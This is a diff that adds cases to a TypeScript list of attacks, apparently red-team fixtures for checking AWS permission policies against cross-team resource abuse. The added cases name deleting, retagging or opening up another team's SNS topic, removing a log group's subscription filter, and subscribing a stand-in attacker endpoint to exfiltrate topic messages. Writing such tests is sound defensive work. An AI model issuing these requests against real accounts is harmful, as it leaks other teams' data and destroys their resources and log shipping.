@@ -1748,4 +1748,51 @@ export const ATTACKS: readonly Attack[] = [
       ),
     ],
   },
+
+  // ---- H-names (redteam2 N2, N2b): a *Names property naming ANOTHER owner's resource gets the subscriber's calls,
+  // never the owner's. {SubscribedTopic} is the first SubscribedTopicArns ARN, {ListedLogGroup} the first
+  // SubscribedLogGroupNames entry (subjects.ts).
+  {
+    id: 'sns-topic-policy-subscribed-foreign-topic-via-stack',
+    class: 'resource-policy',
+    why: "AWS::SNS::TopicPolicy on a topic the service only subscribes to (SubscribedTopicArns): another team's topic opened to any account",
+    requires: ['subscribed-topics'],
+    requests: [cfn('sns:SetTopicAttributes', '{SubscribedTopic}')],
+  },
+  {
+    id: 'sns-delete-subscribed-foreign-topic-via-stack',
+    class: 'foreign-resource',
+    why: 'deleting (or tagging) a topic the service only subscribes to',
+    requires: ['subscribed-topics'],
+    requests: [cfn('sns:DeleteTopic', '{SubscribedTopic}')],
+  },
+  {
+    id: 'sns-tag-subscribed-foreign-topic-via-stack',
+    class: 'foreign-resource',
+    why: "retagging a topic the service only subscribes to (the owner's tag-based access and cost allocation)",
+    requires: ['subscribed-topics'],
+    requests: [cfn('sns:TagResource', '{SubscribedTopic}')],
+  },
+  {
+    id: 'sns-subscribe-outsider-to-subscribed-foreign-topic-via-stack',
+    class: 'foreign-resource',
+    why: "an AWS::SNS::Subscription delivering another team's topic to an outside https endpoint",
+    requires: ['subscribed-topics'],
+    requests: [
+      cfn('sns:Subscribe', '{SubscribedTopic}', {
+        'sns:Protocol': 'https',
+        'sns:Endpoint': 'https://attacker.example.com/hook',
+      }),
+    ],
+  },
+  {
+    id: 'logs-delete-owner-filter-listed-log-group',
+    class: 'foreign-resource',
+    why: "deleting any subscription filter (the owner's log shipping) of a log group the service only subscribes to",
+    requires: ['subscribed-log-groups'],
+    requests: [
+      cli('logs:DeleteSubscriptionFilter', 'arn:{Partition}:logs:{Region}:{Account}:log-group:{ListedLogGroup}'),
+    ],
+  },
+  // ---- end H-names
 ];
